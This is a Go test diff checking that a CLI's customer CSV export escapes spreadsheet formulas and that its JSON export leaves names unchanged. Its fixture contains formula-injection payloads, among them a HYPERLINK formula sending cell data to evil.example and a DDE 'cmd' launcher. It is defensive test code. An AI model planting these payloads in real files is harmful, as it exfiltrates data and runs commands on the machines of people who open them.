@@ -1,6 +1,7 @@
 package main
 
 import (
+	"encoding/csv"
 	"encoding/json"
 	"io"
 	"net/http"
@@ -101,5 +102,41 @@ func TestReleaseHelpUsage(t *testing.T) {
 	}
 	if r := mustRun(t, "release", "customers", "-h"); !strings.Contains(r.stderr, `(default "csv")`) {
 		t.Errorf("release customers' --format does not say its default is csv:\n%s", r.stderr)
+	}
+}
+
+// A customer named like a formula (a ticket's requester types it) is
+// text in the CSV a spreadsheet opens, not a formula it runs; the JSON
+// keeps the name as it is.
+func TestReleaseCustomersCSVFormulas(t *testing.T) {
+	dir := t.TempDir()
+	data, in := filepath.Join(dir, "data"), filepath.Join(dir, "org.ndjson")
+	org := `{"kind":"service","id":"api","name":"API","team":"core"}
+{"kind":"deployment","id":"d1","service":"api","environment":"production","finished_at":"2026-03-12T10:00:00Z","status":"success"}
+{"kind":"ticket","id":"k1","created_at":"2026-03-12T11:00:00Z","service":"api","customer":"=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"}
+{"kind":"ticket","id":"k2","created_at":"2026-03-12T11:01:00Z","service":"api","customer":"@SUM(1+1)"}
+{"kind":"ticket","id":"k3","created_at":"2026-03-12T11:02:00Z","service":"api","customer":"+cmd|' /C calc'!A0"}
+{"kind":"ticket","id":"k4","created_at":"2026-03-12T11:03:00Z","service":"api","customer":"-2+3"}
+{"kind":"ticket","id":"k5","created_at":"2026-03-12T11:04:00Z","service":"api","customer":"cus-5"}
+`
+	os.WriteFile(in, []byte(org), 0o600)
+	mustRun(t, "import", "--data", data, in)
+	out := mustRun(t, "release", "customers", "d1", "--data", data, "--as-of", "2026-03-20", "--format", "csv").stdout
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil || len(rows) != 6 {
+		t.Fatalf("customers csv: %v\n%s", err, out)
+	}
+	got := map[string]bool{}
+	for _, r := range rows[1:] {
+		got[r[0]] = true
+	}
+	for _, want := range []string{`'=HYPERLINK("http://evil.example/"&A1,"x")`, "'@SUM(1+1)", "'+cmd|' /C calc'!A0", "'-2+3", "cus-5"} {
+		if !got[want] {
+			t.Errorf("customers csv lacks the cell %q:\n%s", want, out)
+		}
+	}
+	js := mustRun(t, "release", "customers", "d1", "--data", data, "--as-of", "2026-03-20", "--format", "json").stdout
+	if !strings.Contains(js, `"=HYPERLINK(`) || strings.Contains(js, `'=HYPERLINK`) {
+		t.Errorf("the JSON does not keep the customer as it is:\n%s", js)
 	}
 }
